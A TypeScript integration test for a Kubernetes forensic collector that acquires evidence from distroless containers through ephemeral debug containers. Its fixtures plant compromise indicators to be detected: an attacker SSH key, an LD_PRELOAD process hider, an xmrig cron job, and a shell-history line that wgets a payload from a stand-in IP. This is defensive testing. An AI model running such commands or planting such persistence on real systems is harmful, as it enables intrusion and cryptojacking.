/**
 * Distroless acquisition through an ephemeral debug container, end to end on real sandbox
 * containers: the same triage indicators as on a busybox twin, custody, the debug container kept
 * apart, the opt-in, the 403, pull-failure and timeout paths.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attachDebugContainer, stopDebugContainer } from '../../src/collect/ephemeral/index.js';
import { type AcquisitionReport, ArtifactCollector } from '../../src/collect/index.js';
import { ConfigError, EphemeralContainerError } from '../../src/errors.js';
import { type TargetChange, verifyEvidence } from '../../src/evidence/index.js';
import { hostileProcesses } from '../../src/testing/sandbox/index.js';
import { skipWithoutPeer } from '../support/peers.js';
import {
  BROKEN_IMAGE,
  DEBUG_IMAGE,
  type EphemeralEnv,
  STUCK_IMAGE,
  sandboxMissing,
  startEphemeralEnv,
} from './support.js';

const skip = skipWithoutPeer('bwrap', sandboxMissing());

const sha = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');
const AUTH_KEYS = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyForTests attacker@evil.example\n';
const PRELOAD = '/usr/lib/libprocesshider.so\n';
const CRON = '*/5 * * * * /tmp/.x/xmrig --url stratum+tcp://pool.example.invalid:3333 >/dev/null 2>&1\n';
const MINER = `\x7fELF-not-really-a-miner-${'M'.repeat(3000)}`;
const HISTORY = 'wget http://203.0.113.7/x -O /tmp/.x/xmrig\nchmod +x /tmp/.x/xmrig\n';
const PLANTED: Record<string, string> = {
  '/root/.ssh/authorized_keys': AUTH_KEYS,
  '/etc/ld.so.preload': PRELOAD,
  '/etc/crontabs/root': CRON,
  '/tmp/.x/xmrig': MINER,
  '/root/.ash_history': HISTORY,
};

function files(preset: 'busybox' | 'none') {
  const f: Record<string, { content: string; executable?: boolean; mode?: number }> = {};
  for (const [p, c] of Object.entries(PLANTED)) f[p] = { content: c };
  (f['/tmp/.x/xmrig'] as { executable?: boolean }).executable = true;
  return { preset, files: f, processes: hostileProcesses() };
}

function json<T>(loc: string, path: string): T {
  return JSON.parse(readFileSync(join(loc, path), 'utf8')) as T;
}

interface Indicators {
  files: Record<string, { status: string; sha256?: string }>;
  processes: string[];
  deletedExe: string[];
  preloadEnv: string | undefined;
}

/** The triage indicators an analyst looks at, from a bundle. */
function indicators(loc: string): Indicators {
  const rows = json<{ files: { path: string; status: string; sha256?: string }[] }>(
    loc,
    'containers/app/files/index.json',
  ).files;
  const out: Indicators = { files: {}, processes: [], deletedExe: [], preloadEnv: undefined };
  for (const p of Object.keys(PLANTED)) {
    const r = rows.find((x) => x.path === p);
    out.files[p] = { status: r?.status ?? 'missing', ...(r?.sha256 ? { sha256: r.sha256 } : {}) };
  }
  const procs = json<{ processes: { pid: number; cmdline?: string; exe?: string; exeDeleted: boolean }[] }>(
    loc,
    'containers/app/proc/processes.json',
  ).processes;
  out.processes = procs
    .map((p) => p.cmdline ?? '')
    .filter((c) => /xmrig|dev\/tcp|kworker/.test(c))
    .sort();
  out.deletedExe = procs
    .filter((p) => p.exeDeleted)
    .map((p) => p.exe ?? '')
    .sort();
  const kw = procs.find((p) => p.cmdline?.includes('kworker'));
  if (kw) {
    const env = json<{ variables: { name: string; value: string }[] }>(
      loc,
      `containers/app/proc/${kw.pid}/environ.json`,
    );
    out.preloadEnv = env.variables.find((v) => v.name === 'LD_PRELOAD')?.value;
  }
  return out;
}

describe.skipIf(skip)('distroless container through an ephemeral debug container', () => {
  let env: EphemeralEnv;
  let busyboxReport: AcquisitionReport;
  let distrolessReport: AcquisitionReport;
  let withoutOptIn: AcquisitionReport;

  beforeAll(async () => {
    env = await startEphemeralEnv();
    for (const [name, preset, image] of [
      ['twin-busybox', 'busybox', 'busybox:1.36'],
      ['twin-distroless', 'none', 'gcr.io/distroless/static-debian12'],
      ['plain-distroless', 'none', 'gcr.io/distroless/static-debian12'],
    ] as const) {
      await env.cluster.addPod({
        name,
        containers: [{ name: 'app', image, runtime: 'sandbox', options: files(preset) }],
      });
    }
    const optIn = new ArtifactCollector({
      sink: env.sink,
      profiles: ['triage'],
      caseId: 'CASE-DISTROLESS',
      ephemeral: { allowEphemeralContainer: true, image: DEBUG_IMAGE, lifetimeSeconds: 1800 },
    });
    const reports = await optIn.acquire([
      { kube: env.kube, namespace: 'default', pod: 'twin-busybox', container: 'app' },
      { kube: env.kube, namespace: 'default', pod: 'twin-distroless', container: 'app' },
    ]);
    busyboxReport = { ...reports, targets: [reports.targets[0] as AcquisitionReport['targets'][number]] };
    distrolessReport = { ...reports, targets: [reports.targets[1] as AcquisitionReport['targets'][number]] };
    withoutOptIn = await new ArtifactCollector({ sink: env.sink, profiles: ['triage'] }).acquire({
      kube: env.kube,
      namespace: 'default',
      pod: 'plain-distroless',
      container: 'app',
    });
  }, 240_000);

  afterAll(async () => {
    await env?.close();
  });

  it('finds the same triage indicators as on the busybox twin', () => {
    const b = busyboxReport.targets[0];
    const d = distrolessReport.targets[0];
    expect(b?.status, JSON.stringify(b?.reasons)).toBe('complete');
    expect(d?.finalized, JSON.stringify(d?.reasons)).toBe(true);
    expect(d?.needsEphemeralContainer).toBe(false);
    expect(d?.strategy.content).not.toBe('none');
    expect(d?.status, JSON.stringify(d?.reasons)).toBe('complete');
    const ib = indicators(b?.location ?? '');
    const id = indicators(d?.location ?? '');
    expect(id).toEqual(ib);
    // and they are the planted ones
    expect(id.files['/root/.ssh/authorized_keys']?.sha256).toBe(sha(AUTH_KEYS));
    expect(id.files['/etc/ld.so.preload']?.sha256).toBe(sha(PRELOAD));
    expect(id.files['/tmp/.x/xmrig']?.sha256).toBe(sha(Buffer.from(MINER, 'latin1')));
    expect(id.processes.some((c) => c.includes('stratum+tcp://pool.example.invalid:3333'))).toBe(true);
    expect(id.deletedExe).toContain('/var/tmp/.rs/sh (deleted)');
    // the environment policy keeps loader variables in clear (and flags them)
    expect(id.preloadEnv).toBe('/usr/lib/libprocesshider.so');
    // the bytes of the deleted reverse-shell binary were recovered through /proc/<pid>/exe
    const loc = d?.location ?? '';
    const rs = json<{ processes: { pid: number; exe?: string }[] }>(
      loc,
      'containers/app/proc/processes.json',
    ).processes.find((p) => p.exe === '/var/tmp/.rs/sh (deleted)');
    const manifest = json<{ artifacts: { path: string; sha256?: string; status: string }[] }>(
      loc,
      'manifest.json',
    );
    const exe = manifest.artifacts.find((a) => a.path === `containers/app/proc/${rs?.pid}/exe.bin`);
    expect(exe?.status).toBe('complete');
    expect(exe?.sha256).toBe(sha(readFileSync('/usr/bin/busybox')));
  });

  it('records exactly what was added to the pod, and when, in the custody record', async () => {
    const loc = distrolessReport.targets[0]?.location ?? '';
    expect((await verifyEvidence(loc, { acceptUnanchored: true })).ok).toBe(true);
    const custody = json<{ changes: (TargetChange & { at: string })[] }>(loc, 'custody.json');
    expect(custody.changes).toHaveLength(1);
    const c = custody.changes[0] as TargetChange & { at: string };
    expect(c.kind).toBe('ephemeral-container-added');
    expect(c.target).toMatchObject({ namespace: 'default', pod: 'twin-distroless', container: 'app' });
    expect(c.description).toContain('cannot be removed');
    const d = c.details as Record<string, unknown>;
    expect(d.image).toBe(DEBUG_IMAGE);
    expect(d.capabilities).toEqual(['SYS_PTRACE']);
    expect(d.targetContainerName).toBe('app');
    expect(d.contentType).toBe('application/strategic-merge-patch+json');
    const pod = await env.kube.getPod('default', 'twin-distroless');
    const added = pod.spec?.ephemeralContainers ?? [];
    expect(added.map((e) => e.name)).toEqual([d.containerName]);
    expect(added[0]).toMatchObject({
      image: DEBUG_IMAGE,
      targetContainerName: 'app',
      securityContext: { capabilities: { add: ['SYS_PTRACE'] } },
    });
    expect(Date.parse(c.at)).toBeGreaterThanOrEqual(Date.parse(String(d.requestedAt)));
    // the busybox twin had a shell: its pod was not touched
    const twin = await env.kube.getPod('default', 'twin-busybox');
    expect(twin.spec?.ephemeralContainers ?? []).toEqual([]);
    expect(
      json<{ changes: unknown[] }>(busyboxReport.targets[0]?.location ?? '', 'custody.json').changes,
    ).toEqual([]);
  });

  it('keeps the debug container apart from the target evidence', () => {
    const loc = distrolessReport.targets[0]?.location ?? '';
    const custody = json<{ changes: { details: { containerName: string } }[] }>(loc, 'custody.json');
    const name = custody.changes[0]?.details.containerName ?? '';
    const procs = json<{ processes: { pid: number; cmdline?: string }[] }>(
      loc,
      'containers/app/proc/processes.json',
    ).processes;
    const scan = json<{
      choice: { pid: number; method: string; debugPids: number[] };
      processes: { pid: number; cmdline?: string }[];
    }>(loc, `ephemeral/${name}/scan.json`);
    expect(scan.choice.pid).toBe(1);
    expect(scan.choice.method).toBe('mount-namespace');
    // the debug container's sleep was seen by the scan, and is not in the target's process list
    const sleeper = scan.processes.find((p) => p.cmdline === 'sleep 1800');
    expect(sleeper).toBeDefined();
    expect(scan.choice.debugPids).toContain(sleeper?.pid);
    expect(procs.some((p) => p.cmdline === 'sleep 1800')).toBe(false);
    // while the target's own `sleep 3600` (child of the planted reverse shell) is there
    expect(procs.some((p) => p.cmdline === 'sleep 3600')).toBe(true);
    // nor are the debug container's binaries among the target's executable hashes
    const exe = json<{ hashes: { paths: string[]; pids: number[] }[] }>(
      loc,
      'containers/app/proc/exe-hashes.json',
    );
    expect(exe.hashes.some((h) => h.paths.includes('/app/server'))).toBe(true);
    expect(exe.hashes.filter((h) => h.pids.some((p) => scan.choice.debugPids.includes(p)))).toEqual([]);
    for (const pid of scan.choice.debugPids) expect(procs.some((p) => p.pid === pid)).toBe(false);
    expect(procs.find((p) => p.pid === 1)?.cmdline).toBe('/app/server');
    // self/… describes the target's main process, not the debug shell
    expect(readFileSync(join(loc, 'containers/app/proc/system/self/status'), 'utf8')).toMatch(
      /^Name:\s+server$/m,
    );
    const manifest = json<{ artifacts: { path: string; source: { kind: string } }[] }>(loc, 'manifest.json');
    const own = manifest.artifacts.filter((a) => a.path.startsWith(`ephemeral/${name}/`));
    expect(own.map((a) => a.path).sort()).toEqual([
      `ephemeral/${name}/attachment.json`,
      `ephemeral/${name}/scan.json`,
    ]);
    for (const a of own) expect(a.source.kind).toBe('ephemeral-container');
    for (const a of manifest.artifacts.filter((x) => x.path.startsWith('containers/')))
      expect(a.source.kind).not.toBe('ephemeral-container');
    // file paths are the target's, not the /proc/<pid>/root view
    const rows = json<{ files: { path: string }[] }>(loc, 'containers/app/files/index.json').files;
    expect(rows.some((r) => r.path.startsWith('/proc/'))).toBe(false);
  });

  it("reads the memory of a distroless container's suspects from the debug container (memory profile)", async () => {
    await env.cluster.addPod({
      name: 'memory-distroless',
      containers: [
        {
          name: 'app',
          image: 'gcr.io/distroless/static-debian12',
          runtime: 'sandbox',
          options: files('none'),
        },
      ],
    });
    const r = await new ArtifactCollector({
      sink: env.sink,
      profiles: ['memory'],
      ephemeral: { allowEphemeralContainer: true, image: DEBUG_IMAGE, lifetimeSeconds: 600 },
    }).acquire({ kube: env.kube, namespace: 'default', pod: 'memory-distroless', container: 'app' });
    const loc = r.targets[0]?.location as string;
    const sel = json<{
      processes: { pid: number; exe?: string; why: string[]; status: string }[];
      leftOut: unknown[];
    }>(loc, 'containers/app/memory/selection.json');
    // the deleted miner and reverse shell and the kworker in /tmp, not the app server nor the debug container's shell
    const exes = sel.processes.map((p) => p.exe ?? '').sort();
    expect(exes.some((e) => e.includes('xmrig') && e.endsWith('(deleted)'))).toBe(true);
    expect(exes.some((e) => e.startsWith('/app/server'))).toBe(false);
    for (const p of sel.processes) expect(p.status, JSON.stringify(p)).toBe('complete');
    const miner = sel.processes.find((p) => p.exe?.includes('xmrig'));
    const core = readFileSync(join(loc, `containers/app/memory/${miner?.pid}.core`));
    expect(core.subarray(0, 4).toString('latin1')).toBe('\x7fELF');
    expect(core.readUInt16LE(16)).toBe(4); // ET_CORE
  }, 120_000);

  it('never adds an ephemeral container without the opt-in', async () => {
    const r = withoutOptIn.targets[0];
    expect(r?.needsEphemeralContainer).toBe(true);
    expect(r?.reasons.join('\n')).toContain('needs ephemeral container');
    const pod = await env.kube.getPod('default', 'plain-distroless');
    expect(pod.spec?.ephemeralContainers ?? []).toEqual([]);
    expect(json<{ changes: unknown[] }>(r?.location ?? '', 'custody.json').changes).toEqual([]);
    expect(
      () =>
        new ArtifactCollector({ sink: env.sink, ephemeral: { allowEphemeralContainer: false, image: 'x' } }),
    ).toThrow(ConfigError);
    const pod2 = env.kube.getPod('default', 'plain-distroless');
    return expect(
      attachDebugContainer({ allowEphemeralContainer: false, image: DEBUG_IMAGE } as never, {
        kube: env.kube,
        namespace: 'default',
        pod: 'plain-distroless',
        container: 'app',
      }),
    )
      .rejects.toThrow(/allowEphemeralContainer: true/)
      .then(async () => expect((await pod2).spec?.ephemeralContainers ?? []).toEqual([]));
  });

  it('stops the debug container early on request, and only it', async () => {
    await env.cluster.addPod({
      name: 'stop-distroless',
      containers: [
        { name: 'app', image: 'gcr.io/distroless/static', runtime: 'sandbox', options: files('none') },
      ],
    });
    const att = await attachDebugContainer(
      { allowEphemeralContainer: true, image: DEBUG_IMAGE },
      { kube: env.kube, namespace: 'default', pod: 'stop-distroless', container: 'app' },
    );
    const r = await stopDebugContainer(env.kube, att);
    expect(r.stopped).toBe(1);
    let state: Record<string, unknown> | undefined;
    for (let i = 0; i < 50; i++) {
      const pod = await env.kube.getPod('default', 'stop-distroless');
      state = pod.status?.ephemeralContainerStatuses?.find((s) => s.name === att.containerName)?.state as
        | Record<string, unknown>
        | undefined;
      if (state?.terminated) break;
      await new Promise((res) => setTimeout(res, 100));
    }
    expect(state?.terminated).toBeDefined();
    const pod = await env.kube.getPod('default', 'stop-distroless');
    expect(pod.status?.containerStatuses?.find((s) => s.name === 'app')?.state?.running).toBeTruthy();
    expect(pod.spec?.ephemeralContainers?.map((c) => c.name)).toEqual([att.containerName]);
  });

  it('403: a user without patch on pods/ephemeralcontainers gets an error naming what to grant', async () => {
    await env.cluster.addPod({
      name: 'forbidden-distroless',
      containers: [
        { name: 'app', image: 'gcr.io/distroless/static', runtime: 'sandbox', options: files('none') },
      ],
    });
    // through the collector (preflight: nothing is changed)
    const rep = await new ArtifactCollector({
      sink: env.sink,
      profiles: ['triage'],
      ephemeral: { allowEphemeralContainer: true, image: DEBUG_IMAGE },
    }).acquire({ kube: env.limited, namespace: 'default', pod: 'forbidden-distroless', container: 'app' });
    const reasons = rep.targets[0]?.reasons.join('\n') ?? '';
    expect(reasons).toContain('patch on pods/ephemeralcontainers');
    expect(reasons).toContain('the pod was not changed');
    expect(rep.targets[0]?.needsEphemeralContainer).toBe(true);
    // straight to the PATCH (no preflight): the API server's 403
    const err = await attachDebugContainer(
      { allowEphemeralContainer: true, image: DEBUG_IMAGE, preflight: false },
      { kube: env.limited, namespace: 'default', pod: 'forbidden-distroless', container: 'app' },
    ).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(EphemeralContainerError);
    const e = err as EphemeralContainerError;
    expect(e.code).toBe('EKSF_EPHEMERAL_CONTAINER');
    expect(e.failure).toBe('forbidden');
    expect(e.httpStatus).toBe(403);
    expect(e.podChanged).toBe(false);
    expect(e.message).toContain('patch on pods/ephemeralcontainers');
    expect(e.message).toContain('get on pods/exec');
    expect(e.message).toContain('namespace default');
    const pod = await env.kube.getPod('default', 'forbidden-distroless');
    expect(pod.spec?.ephemeralContainers ?? []).toEqual([]);
  });

  it("a debug container that cannot start: start-failed, with the runtime's reason in the message", async () => {
    await env.cluster.addPod({
      name: 'broken-debug',
      containers: [
        { name: 'app', image: 'gcr.io/distroless/static', runtime: 'sandbox', options: files('none') },
      ],
    });
    const err = await attachDebugContainer(
      { allowEphemeralContainer: true, image: BROKEN_IMAGE, startTimeoutMs: 20_000, pollIntervalMs: 100 },
      { kube: env.kube, namespace: 'default', pod: 'broken-debug', container: 'app' },
    ).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(EphemeralContainerError);
    expect((err as EphemeralContainerError).failure).toBe('start-failed');
    // the kubelet's message (here the sandbox runtime's) is in the error, not only "StartError 128"
    expect((err as Error).message).toMatch(/terminated \(StartError 128: .*cannot start entrypoint/);
  });

  it('timeout: a debug container that never runs gives the timeout error, and the change is still recorded', async () => {
    await env.cluster.addPod({
      name: 'stuck-distroless',
      containers: [
        { name: 'app', image: 'gcr.io/distroless/static', runtime: 'sandbox', options: files('none') },
      ],
    });
    const changes: TargetChange[] = [];
    const started = Date.now();
    const err = await attachDebugContainer(
      { allowEphemeralContainer: true, image: STUCK_IMAGE, startTimeoutMs: 1500, pollIntervalMs: 100 },
      {
        kube: env.kube,
        namespace: 'default',
        pod: 'stuck-distroless',
        container: 'app',
        recorder: {
          recordChange: (c) => changes.push(c),
          log: () => undefined,
          writeArtifact: () => Promise.reject(new Error('not expected')),
        },
      },
    ).catch((e: unknown) => e);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(err).toBeInstanceOf(EphemeralContainerError);
    const e = err as EphemeralContainerError;
    expect(e.failure).toBe('timeout');
    expect(e.podChanged).toBe(true);
    expect(e.message).toMatch(
      /was not running after 1500 ms \(last state: (ContainerCreating|no status yet)/,
    );
    expect(e.message).toContain('stays in the pod spec');
    expect(changes).toHaveLength(1);
    expect(changes[0]?.details?.containerName).toBe(e.containerName);
    const pod = await env.kube.getPod('default', 'stuck-distroless');
    expect(pod.spec?.ephemeralContainers?.map((c) => c.name)).toEqual([e.containerName]);
    // through the collector: the bundle's custody states the container although acquisition failed
    const rep = await new ArtifactCollector({
      sink: env.sink,
      profiles: ['triage'],
      ephemeral: {
        allowEphemeralContainer: true,
        image: STUCK_IMAGE,
        startTimeoutMs: 1000,
        pollIntervalMs: 100,
      },
    }).acquire({ kube: env.kube, namespace: 'default', pod: 'stuck-distroless', container: 'app' });
    const t = rep.targets[0];
    expect(t?.reasons.join('\n')).toMatch(
      /ephemeral phase failed: debug container eksf-debug-\w{5} was not running/,
    );
    expect(t?.needsEphemeralContainer).toBe(true);
    const custody = json<{ changes: TargetChange[] }>(t?.location ?? '', 'custody.json');
    expect(custody.changes.map((c) => c.kind)).toEqual(['ephemeral-container-added']);
    // without lifetimeSeconds the debug container outlives the collector's target budget (60 min + 5)
    expect(custody.changes[0]?.details?.command).toEqual(['sleep', '3900']);
  });
});
